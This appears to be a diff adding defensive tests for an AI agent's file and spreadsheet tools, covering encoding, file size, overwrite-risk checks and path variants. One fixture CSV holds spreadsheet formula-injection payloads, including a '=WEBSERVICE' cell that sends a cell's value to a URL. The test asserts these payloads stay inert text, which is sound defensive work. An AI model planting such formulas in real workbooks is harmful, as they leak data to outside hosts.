@@ -1,0 +1,87 @@
+"""Red team of the tools themselves (session 16): hostile workspace files and hostile data, on real files."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from gofer.events import Risk
+from gofer.tools.base import ToolContext, ToolError
+from gofer.tools.documents import create_spreadsheet
+from gofer.tools.files import edit_file, write_file
+
+
+@pytest.fixture
+def ctx(tmp_path: Path) -> ToolContext:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    return ToolContext(run_id="r", session_id="s", workspace=ws)
+
+
+async def test_edit_refuses_a_file_that_is_not_utf8_instead_of_rewriting_its_bytes(ctx: ToolContext) -> None:
+    # A person's Latin-1 text (or any binary file with a readable stretch): a small edit must not turn every
+    # byte UTF-8 cannot decode into U+FFFD across the whole file, quietly.
+    original = "Café Müller;Straße 1\nprice: 10\n".encode("latin-1")
+    (ctx.workspace / "contacts.txt").write_bytes(original)
+    assert edit_file.judge_risk({"path": "contacts.txt", "old": "10", "new": "12"}, ctx).risk != Risk.CONSEQUENTIAL
+    with pytest.raises(ToolError, match="not UTF-8"):
+        await edit_file(ctx, {"path": "contacts.txt", "old": "10", "new": "12"})
+    assert (ctx.workspace / "contacts.txt").read_bytes() == original
+
+    zipped = io.BytesIO()
+    with zipfile.ZipFile(zipped, "w") as zf:
+        zf.writestr("readme.txt", "version 1\n" * 50)
+    (ctx.workspace / "bundle.zip").write_bytes(zipped.getvalue())
+    with pytest.raises(ToolError, match="not UTF-8"):
+        await edit_file(ctx, {"path": "bundle.zip", "old": "PK", "new": "PK"})
+    assert (ctx.workspace / "bundle.zip").read_bytes() == zipped.getvalue()
+
+
+async def test_edit_replacing_most_of_a_large_user_file_asks(ctx: ToolContext) -> None:
+    # The judge read at most 1 MB and let anything larger through: a 1.5 MB file replaced whole did not ask.
+    body = ("row,value\n" + "".join(f"{i},{i * 7}\n" for i in range(200_000))).encode()
+    assert len(body) > 1_000_000
+    (ctx.workspace / "ledger.csv").write_bytes(body)
+    judgement = edit_file.judge_risk({"path": "ledger.csv", "old": body.decode(), "new": "emptied\n"}, ctx)
+    assert judgement.risk == Risk.CONSEQUENTIAL and "replaces most" in judgement.reasons[0]
+    small = edit_file.judge_risk({"path": "ledger.csv", "old": "5,35\n", "new": "5,36\n"}, ctx)
+    assert small.risk != Risk.CONSEQUENTIAL
+
+
+async def test_edit_of_a_file_too_large_to_hold_is_refused_by_name(ctx: ToolContext) -> None:
+    # edit_file read the whole file into the host's memory, whatever its size.
+    with open(ctx.workspace / "huge.log", "wb") as f:
+        f.truncate(64_000_000)
+    with pytest.raises(ToolError, match="too large to edit"):
+        await edit_file(ctx, {"path": "huge.log", "old": "x", "new": "y"})
+
+
+async def test_spreadsheet_cells_from_data_stay_text_not_formulas(ctx: ToolContext) -> None:
+    # A CSV from the web carrying formulas: rows from a query are data, so a cell "=WEBSERVICE(...)" must
+    # land as the text it was, not as a live formula in the person's workbook (nor a header as one).
+    (ctx.workspace / "leads.csv").write_text(
+        'name,"=HYPERLINK(""http://127.0.0.1:9/h"",""h"")"\n'
+        'Ann,"=WEBSERVICE(""http://127.0.0.1:9/x?""&A2)"\n'
+        "Cy,=Missing!A1+(\n"
+        "Bob,=1+1\n"
+    )
+    spec = {"sheets": [{"name": "Leads", "data": {"sql": "SELECT * FROM 'leads.csv'"}},
+                       {"name": "Mine", "rows": [["=1+2"]], "columns": [{"header": "sum"}]}]}
+    result = await create_spreadsheet(ctx, {"path": "leads.xlsx", "spec": spec})
+    assert result.data and result.data["problems"] == []
+    wb = openpyxl.load_workbook(ctx.workspace / "leads.xlsx")
+    leads = wb["Leads"]
+    cells = [leads.cell(row=r, column=2) for r in (1, 2, 3, 4)]
+    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
+    assert cells[1].value == '=WEBSERVICE("http://127.0.0.1:9/x?"&A2)'
+    assert wb["Mine"]["A2"].data_type == "f"  # the model's own formulas still are formulas
+
+
+async def test_write_file_over_a_user_file_still_asks(ctx: ToolContext) -> None:
+    (ctx.workspace / "notes.md").write_text("mine")
+    for path in ("notes.md", "./notes.md", "/workspace/notes.md", " notes.md ", "sub/../notes.md"):
+        assert write_file.judge_risk({"path": path, "content": "x"}, ctx).risk == Risk.CONSEQUENTIAL, path
